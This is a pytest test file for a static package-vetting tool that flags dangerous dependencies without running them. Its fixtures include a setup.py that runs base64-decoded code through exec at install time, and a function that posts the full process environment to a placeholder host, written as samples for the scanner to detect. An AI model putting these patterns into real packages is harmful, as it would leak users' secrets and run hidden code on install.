"""A package is judged by what it does; nothing of it runs."""

import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from seawall.cli.main import run
from seawall.core.errors import TargetError
from seawall.journeys.vet import parse_name, vet_named, vet_path
from seawall.wire.http import Answer, WireSettings

QUIET = "def double(number):\n    return number * 2\n"
GRAVE = """\
import os, base64
from setuptools import setup
open("ran", "w").write("it ran")
exec(base64.b64decode("cHJpbnQoMSk="))
setup(name="kit")
"""


def archive(folder: Path, **files: str) -> Path:
    path = folder / "kit-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"kit-1.0/{name.replace('__', '/')}.py")
            entry.size = len(text.encode())
            tar.addfile(entry, io.BytesIO(text.encode()))
    return path


def judged(path: Path, *, code: bool = False) -> list[str]:
    vetted = vet_path(path, code=code, cache_folder=None, progress=lambda *_: None)
    return [vetted.judgement, *(one.rule for one in vetted.findings)]


def test_an_honest_package_is_quiet(tmp_path: Path) -> None:
    assert judged(archive(tmp_path, kit__a=QUIET)) == ["quiet"]


def test_a_grave_one_is_to_be_avoided(tmp_path: Path) -> None:
    assert judged(archive(tmp_path, setup=GRAVE)) == ["avoid", "hidden-code"]


def test_the_same_act_weighs_less_where_only_a_caller_has_it_done(tmp_path: Path) -> None:
    later = "import os, requests\ndef report(to):\n    requests.post(to, json=dict(os.environ))\n"
    assert judged(archive(tmp_path, kit__a=later)) == ["look", "secrets-sent"]
    assert judged(archive(tmp_path, kit__a=f"{later}report('https://kit.example')\n")) == [
        "avoid",
        "secrets-sent",
    ]


@pytest.mark.parametrize(
    "text", ["def f(:\n", "(" * 5000, "x = " + "-" * 20000 + "1", "\x00", "a." * 20000 + "b"]
)
def test_no_file_ends_it(tmp_path: Path, text: str) -> None:
    (tmp_path / "setup.py").write_text(text)
    (tmp_path / "package.json").write_text("[" * 5000)
    (tmp_path / "pyproject.toml").write_text("[[[")
    assert judged(tmp_path)[0] == "quiet"


def test_the_command_says_what_it_found_and_runs_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = archive(tmp_path, setup=GRAVE, kit__a=QUIET)
    assert run(["deps", "vet", "--no-code", str(path)]) == 1
    told = capsys.readouterr().out
    assert "high[hidden-code]: it runs code that it decodes first while it is installed" in told
    assert "--> setup.py:4" in told
    assert "kit-1.0.tar.gz: avoid it (2 files)" in told
    assert not (tmp_path / "ran").exists()
    assert run(["deps", "vet", "--no-code", "--format", "json", str(path)]) == 1
    (vetted,) = json.loads(capsys.readouterr().out)
    assert (vetted["judgement"], vetted["findings"][0]["rule"]) == ("avoid", "hidden-code")


def test_a_package_that_is_not_there_is_an_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["deps", "vet", "./nowhere"]) == 2
    assert "there is no such file or folder" in capsys.readouterr().err


def registry(monkeypatch: pytest.MonkeyPatch, body: object, content: bytes) -> None:
    def request(settings: WireSettings, url: str, **more: object) -> Answer:
        return Answer(status=200, body=json.dumps(body).encode())

    def download(settings: WireSettings, url: str, place: Path, **more: object) -> None:
        place.write_bytes(content)

    monkeypatch.setattr("seawall.wire.http.request", request)
    monkeypatch.setattr("seawall.wire.download.download", download)


def test_what_is_downloaded_is_what_the_registry_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = archive(tmp_path, setup=GRAVE).read_bytes()
    entry = {
        "packagetype": "sdist",
        "url": "https://files.pythonhosted.org/packages/kit-1.0.tar.gz",
        "digests": {"sha256": hashlib.sha256(content).hexdigest()},
    }
    registry(monkeypatch, {"urls": [entry]}, content)
    options = {"code": False, "cache_folder": None, "progress": lambda *_: None}
    (vetted,) = vet_named("kit==1.0", WireSettings(), **options)  # type: ignore[arg-type]
    assert (vetted.name, vetted.judgement) == ("kit-1.0.tar.gz", "avoid")
    registry(monkeypatch, {"urls": [entry]}, content + b"more")
    with pytest.raises(TargetError, match="not what the registry says"):
        vet_named("kit==1.0", WireSettings(), **options)  # type: ignore[arg-type]
    for body in ({"urls": []}, {"urls": [{}]}, [], {}):
        registry(monkeypatch, body, content)
        with pytest.raises(TargetError):
            vet_named("kit==1.0", WireSettings(), **options)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("kit==1.0", ("pypi", "kit", "1.0")),
        ("pypi:kit==1.0rc1", ("pypi", "kit", "1.0rc1")),
        ("npm:kit@1.0.0", ("npm", "kit", "1.0.0")),
        ("@acme/kit@1.0.0-rc.1", ("npm", "@acme/kit", "1.0.0-rc.1")),
        ("kit", None),
        ("./kit", None),
        ("../kit==1", None),
    ],
)
def test_names(text: str, named: tuple[str, str, str] | None) -> None:
    assert parse_name(text) == named
